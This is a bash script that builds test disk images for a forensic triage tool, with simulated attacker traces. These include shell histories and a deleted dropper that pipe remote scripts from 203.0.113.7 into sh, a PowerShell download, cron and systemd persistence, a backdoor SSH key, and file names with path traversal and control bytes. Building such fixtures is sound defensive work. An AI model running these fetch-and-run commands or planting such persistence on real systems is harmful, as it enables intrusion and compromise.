#!/usr/bin/env bash
# mkartifacts.sh -- build the deterministic images of triage-extract's tests and the README demo.
#
# Usage: tests/data/mkartifacts.sh [OUTDIR]      (default: the folder this script lives in)
#
#   sample.img   MBR disk: p1 ext4 "linux" (users, logs, histories, ssh keys, cron, a systemd
#                unit, an EICAR file, a deleted file; a home outside /home found via
#                /etc/passwd), p2 FAT16 "windows" (mixed-case Windows paths, small real
#                registry hives, event log, prefetch, Chrome history from the shared fixtures).
#   hostile.img  bare ext2 whose directory entries were patched to hostile names ("..", "a/b",
#                "../../etc/evil", "/abs", newline, control bytes, a 250-byte name of DEL bytes),
#                a case-fold collision and a folder chain longer than PATH_MAX once encoded.
#
# See README-artifacts.md for the exact layout.  Rebuilding gives byte-identical files
# (SHA256SUMS.artifacts): fixed UUIDs, hash seeds, serials, disk id, times and a frozen clock.
# sample.img copies real files from $TRIAGE_TEST_DATA (default ../../shared/fixtures beside the
# project); without them the script stops (the copies are part of the checksum).
#
# Needs: e2fsprogs, dosfstools, mtools, sfdisk, faketime, perl, hivexsh (libhivex-bin), coreutils.
set -euo pipefail

here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
out=${1:-$here}
mkdir -p "$out"
out=$(cd "$out" && pwd)
fx=${TRIAGE_TEST_DATA:-$here/../../../shared/fixtures}
[ -d "$fx/artifacts" ] || {
    echo "mkartifacts.sh: no shared fixtures at '$fx' (set TRIAGE_TEST_DATA)" >&2
    exit 2
}
fx=$(cd "$fx" && pwd)

# shellcheck source=tests/data/fixtures-lib.bash
. "$here/fixtures-lib.bash"
fixture_setup mkartifacts.sh mke2fs debugfs dumpe2fs mkfs.vfat mcopy mmd sfdisk faketime perl \
    hivexsh

# ------------------------------------------------------------------------------ sample.img p1
build_linux() {
    local s=$work/linux img=$work/linux.img ino
    mkdir -p "$s"/etc/ssh "$s"/etc/systemd/system "$s"/etc/cron.d "$s"/root \
        "$s"/home/alice/.ssh "$s"/home/alice/Downloads "$s"/home/alice/.local/share/fish \
        "$s"/srv/carol/.ssh "$s"/var/log/journal "$s"/var/spool/cron/crontabs "$s"/tmp
    cat > "$s/etc/passwd" <<'EOF'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
sshd:x:105:65534::/run/sshd:/usr/sbin/nologin
alice:x:1000:1000:Alice Example,,,:/home/alice:/bin/bash
carol:x:1001:1001:Carol (home outside /home):/srv/carol:/bin/zsh
EOF
    cat > "$s/etc/shadow" <<'EOF'
root:$6$saltsalt$QmFkIHBhc3N3b3JkIGhhc2ggZm9yIGEgdGVzdCBpbWFnZQ:19452:0:99999:7:::
daemon:*:19452:0:99999:7:::
sshd:*:19452:0:99999:7:::
alice:$6$saltsalt$YWxpY2UgdGVzdCBoYXNoIG5vdCBhIHJlYWwgcGFzc3dvcmQ:19452:0:99999:7:::
carol:$6$saltsalt$Y2Fyb2wgdGVzdCBoYXNoIG5vdCBhIHJlYWwgcGFzc3dvcmQ:19453:0:99999:7:::
EOF
    cat > "$s/etc/group" <<'EOF'
root:x:0:
sudo:x:27:alice,carol
alice:x:1000:
carol:x:1001:
EOF
    cat > "$s/etc/sudoers" <<'EOF'
Defaults	env_reset
root	ALL=(ALL:ALL) ALL
%sudo	ALL=(ALL:ALL) ALL
carol	ALL=(ALL) NOPASSWD: ALL
EOF
    echo 'sample-linux' > "$s/etc/hostname"
    printf 'Host *\n    ServerAliveInterval 60\n' > "$s/etc/ssh/ssh_config"
    cat > "$s/etc/crontab" <<'EOF'
SHELL=/bin/sh
17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly
EOF
    echo '*/5 * * * * root /srv/carol/.cache/update.sh >/dev/null 2>&1' > "$s/etc/cron.d/sysupdate"
    echo '@reboot /home/alice/Downloads/invoice.pdf.exe' > "$s/var/spool/cron/crontabs/alice"
    cat > "$s/etc/systemd/system/sysupdate.service" <<'EOF'
[Unit]
Description=System update helper

[Service]
ExecStart=/srv/carol/.cache/update.sh
Restart=always

[Install]
WantedBy=multi-user.target
EOF
    cat > "$s/var/log/auth.log" <<'EOF'
Apr  5 06:00:01 sample-linux sshd[811]: Failed password for invalid user admin from 203.0.113.7 port 51000 ssh2
Apr  5 06:00:04 sample-linux sshd[811]: Failed password for invalid user admin from 203.0.113.7 port 51002 ssh2
Apr  5 06:01:10 sample-linux sshd[815]: Accepted publickey for carol from 203.0.113.7 port 51010 ssh2: ED25519 SHA256:dGVzdCBrZXkgZm9yIHRyaWFnZQ
Apr  5 06:01:12 sample-linux sudo:    carol : TTY=pts/0 ; PWD=/srv/carol ; USER=root ; COMMAND=/bin/bash
EOF
    cat > "$s/var/log/syslog" <<'EOF'
Apr  5 06:00:00 sample-linux systemd[1]: Started Daily apt download activities.
Apr  5 06:01:15 sample-linux systemd[1]: Started System update helper.
Apr  5 06:01:16 sample-linux kernel: [ 1234.000000] audit: type=1400 apparmor="DENIED"
EOF
    : > "$s/var/log/wtmp"
    printf 'ls -la\nsudo -i\n' > "$s/root/.bash_history"
    printf 'wget http://203.0.113.7/invoice.pdf.exe -O ~/Downloads/invoice.pdf.exe\nchmod +x ~/Downloads/invoice.pdf.exe\n' \
        > "$s/home/alice/.bash_history"
    printf -- '- cmd: ls ~/Downloads\n  when: 1680674000\n' > "$s/home/alice/.local/share/fish/fish_history"
    echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHRyaWFnZS10ZXN0LWtleS1hbGljZQ alice@laptop' \
        > "$s/home/alice/.ssh/authorized_keys"
    echo '203.0.113.7 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGtub3duLWhvc3QtdGVzdA' > "$s/home/alice/.ssh/known_hosts"
    printf '%s' "$EICAR" > "$s/home/alice/Downloads/invoice.pdf.exe"
    printf ': 1680674800:0;curl -s http://203.0.113.7/u.sh | sh\n: 1680674810:0;crontab -l\n' > "$s/srv/carol/.zsh_history"
    echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJhY2tkb29yLWtleS1mb3ItY2Fyb2w attacker@evil' \
        > "$s/srv/carol/.ssh/authorized_keys"
    chmod 0640 "$s/etc/shadow"
    chmod 0440 "$s/etc/sudoers"
    chmod 0600 "$s/home/alice/.bash_history" "$s/root/.bash_history" "$s/srv/carol/.zsh_history"
    chmod 0755 "$s/home/alice/Downloads/invoice.pdf.exe"

    mkext ext4 "$img" 6144 "$s" 2e3f0b1a-0000-4000-8000-0000000005a1 \
        5eed0000-0000-4000-8000-0000000005a1 sample-linux 128 -J size=1
    ext_set_times "$img" "$SOURCE_DATE_EPOCH" 11 "$(ext_last_inode "$img")" root
    ext_chown "$img" 1000 1000 /home/alice /home/alice/.bash_history /home/alice/.ssh \
        /home/alice/.ssh/authorized_keys /home/alice/.ssh/known_hosts /home/alice/Downloads \
        /home/alice/Downloads/invoice.pdf.exe /home/alice/.local /home/alice/.local/share \
        /home/alice/.local/share/fish /home/alice/.local/share/fish/fish_history
    ext_chown "$img" 1001 1001 /srv/carol /srv/carol/.zsh_history /srv/carol/.ssh \
        /srv/carol/.ssh/authorized_keys
    # A deleted file whose content icat still recovers.
    printf '#!/bin/sh\ncurl -s http://203.0.113.7/stage2 | sh\n' > "$work/dropper.sh"
    faketime "$FROZEN" debugfs -w -R "write $work/dropper.sh /home/alice/Downloads/dropper.sh" "$img" >/dev/null 2>&1
    ino=$(debugfs -R "stat /home/alice/Downloads/dropper.sh" "$img" 2>/dev/null | awk '/^Inode:/ {print $2; exit}')
    ext_set_times "$img" "$SOURCE_DATE_EPOCH" "$ino" "$ino" root
    faketime "$FROZEN" debugfs -w -R "rm /home/alice/Downloads/dropper.sh" "$img" >/dev/null 2>&1
    faketime "$FROZEN" debugfs -w -R "sif <$ino> dtime @$((SOURCE_DATE_EPOCH + 86400 * 30))" "$img" >/dev/null 2>&1
}

# ------------------------------------------------------------------------------ sample.img p2
build_windows() {
    local s=$work/win img=$work/win.img d
    local u='Users/Bob' ad='Users/Bob/AppData'
    mkdir -p "$s"
    printf 'regf fake SYSTEM hive for triage tests\r\n' > "$s/SYSTEM"
    printf 'regf fake UsrClass.dat for triage tests\r\n' > "$s/UsrClass.dat"
    # shellcheck disable=SC2016  # a PowerShell variable, literal
    printf 'Get-Process\r\nInvoke-WebRequest http://203.0.113.7/p.ps1 -OutFile $env:TEMP\\p.ps1\r\n' \
        > "$s/ConsoleHost_history.txt"
    printf '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task><Actions><Exec><Command>C:\\Users\\Bob\\AppData\\Local\\Temp\\upd.exe</Command></Exec></Actions></Task>\r\n' \
        > "$s/Updater"
    # A small real SOFTWARE hive (the regipy SECURITY hive, MIT, with CurrentVersion added; its
    # other keys stay SECURITY's) whose ProfileList names Bob and the system profile, so
    # triage-extract reads SIDs from it and warns about nothing.
    hive_with_profiles "$fx/artifacts/registry/regipy/SECURITY" "$s/SOFTWARE" 'C:\Windows' \
        'S-1-5-18=expandstring:%systemroot%\system32\config\systemprofile' \
        'S-1-5-21-3623811015-3361044348-30300820-1001=expandstring:C:\Users\Bob'
    cp "$fx/artifacts/registry/plaso/SAM" "$s/SAM"
    cp "$fx/artifacts/registry/regipy/SECURITY" "$s/SECURITY"
    cp "$fx/artifacts/registry/plaso/NTUSER.DAT" "$s/NTUSER.DAT"
    cp "$fx/artifacts/registry/plaso/win10-Amcache.hve" "$s/Amcache.hve"
    cp "$fx/artifacts/evtx/omerbenamram-evtx/Security_short_selected.evtx" "$s/Security.evtx"
    cp "$fx/artifacts/prefetch/plaso/CMD.EXE-087B4001.pf" "$s/CMD.EXE-087B4001.pf"
    cp "$fx/artifacts/browser/plaso/chrome/History" "$s/History"
    touch -d '2023-04-05 06:07:08' "$s"/*
    rm -f "$img"
    truncate -s 8M "$img"
    mkfs.vfat -F 16 -s 2 -S 512 -h 14336 --invariant -i 53414d50 -n WINDOWS "$img" >/dev/null
    for d in Windows Windows/System32 Windows/System32/config Windows/System32/winevt \
        Windows/System32/winevt/Logs Windows/System32/Tasks Windows/Prefetch Windows/AppCompat \
        Windows/AppCompat/Programs Users "$u" "$ad" "$ad/Local" "$ad/Local/Google" \
        "$ad/Local/Google/Chrome" "$ad/Local/Google/Chrome/User Data" \
        "$ad/Local/Google/Chrome/User Data/Default" "$ad/Local/Microsoft" \
        "$ad/Local/Microsoft/Windows" "$ad/Roaming" "$ad/Roaming/Microsoft" \
        "$ad/Roaming/Microsoft/Windows" "$ad/Roaming/Microsoft/Windows/PowerShell" \
        "$ad/Roaming/Microsoft/Windows/PowerShell/PSReadline" Users/Public; do
        faketime "$FROZEN" mmd -i "$img" "::/$d"
    done
    fat_put "$img" /Windows/System32/config "$s/SYSTEM" "$s/SOFTWARE" "$s/SAM" "$s/SECURITY"
    fat_put "$img" /Windows/System32/winevt/Logs "$s/Security.evtx"
    fat_put "$img" /Windows/System32/Tasks "$s/Updater"
    fat_put "$img" /Windows/Prefetch "$s/CMD.EXE-087B4001.pf"
    fat_put "$img" /Windows/AppCompat/Programs "$s/Amcache.hve"
    fat_put "$img" "/$u" "$s/NTUSER.DAT"
    fat_put "$img" "/$ad/Local/Microsoft/Windows" "$s/UsrClass.dat"
    fat_put "$img" "/$ad/Local/Google/Chrome/User Data/Default" "$s/History"
    fat_put "$img" "/$ad/Roaming/Microsoft/Windows/PowerShell/PSReadline" "$s/ConsoleHost_history.txt"
}

# Sectors of 512 bytes: p1 2048 (12288 s) 0x83 ext4; p2 14336 (16384 s) 0x06 FAT16.
build_sample() {
    local disk=$work/sample.img
    build_linux
    build_windows
    rm -f "$disk"
    truncate -s $((30720 * 512)) "$disk"
    sfdisk -q --no-reread --no-tell-kernel "$disk" <<'EOF'
label: dos
label-id: 0x53414d50
unit: sectors

start=2048, size=12288, type=83
start=14336, size=16384, type=6
EOF
    dd if="$work/linux.img" of="$disk" bs=512 seek=2048 conv=notrunc status=none
    dd if="$work/win.img" of="$disk" bs=512 seek=14336 conv=notrunc status=none
    cp "$disk" "$out/sample.img"
}

# ------------------------------------------------------------------------------- hostile.img
# Names are written as same-length placeholders, then the bytes in the directory blocks are
# patched (ext2 directory blocks carry no checksum).  Each placeholder occurs once in the image.
build_hostile() {
    local s=$work/hostile img=$work/hostile.img long cmds=$work/deep.cmds
    mkdir -p "$s/dir"
    echo 'dotdot' > "$s/QQ"
    echo 'slash inside the name' > "$s/dir/aQb"
    echo 'traversal' > "$s/dir/TRAVERSALXXXXX"
    echo 'absolute' > "$s/ABSX"
    echo 'newline' > "$s/newQline.txt"
    echo 'control' > "$s/ctlQx.txt"
    long=$(printf 'L%.0s' $(seq 1 250))
    echo 'long name of DEL bytes' > "$s/$long"
    echo 'upper' > "$s/README.TXT"
    echo 'mixed' > "$s/Readme.txt"
    echo 'lower' > "$s/readme.txt"
    mkext ext2 "$img" 1024 "$s" 2e3f0b1a-0000-4000-8000-00000000ba0d \
        5eed0000-0000-4000-8000-00000000ba0d hostile 64
    # 20 nested folders named with 80 bytes 0x01 each: /deep/.../bottom.txt is 1636 bytes in
    # the image (TSK walks paths up to 4096 bytes) but 4836 once percent-encoded (> PATH_MAX).
    deepname=$(printf 'P%.0s' $(seq 1 80))
    {
        echo 'mkdir deep'
        echo 'cd deep'
        for _ in $(seq 1 20); do
            printf 'mkdir %s\ncd %s\n' "$deepname" "$deepname"
        done
        echo "write $s/README.TXT bottom.txt"
    } > "$cmds"
    faketime "$FROZEN" debugfs -w -f "$cmds" "$img" >/dev/null 2>&1
    ext_set_times "$img" "$SOURCE_DATE_EPOCH" 11 "$(ext_last_inode "$img")" root
    perl -0777 -pi -e '
        s/\x02\x01QQ/\x02\x01../;
        s/aQb/a\/b/;
        s/TRAVERSALXXXXX/..\/..\/etc\/evil/;
        s/ABSX/\/abs/;
        s/newQline\.txt/new\nline.txt/;
        s/ctlQx\.txt/ctl\x01x.txt/;
        s/L{250}/"\x7f" x 246 . ".txt"/e;
        s/P{80}/"\x01" x 80/ge;
    ' "$img"
    cp "$img" "$out/hostile.img"
}

build_sample
build_hostile
(cd "$out" && touch -d "@$SOURCE_DATE_EPOCH" sample.img hostile.img)
echo "mkartifacts.sh: images written to $out" >&2
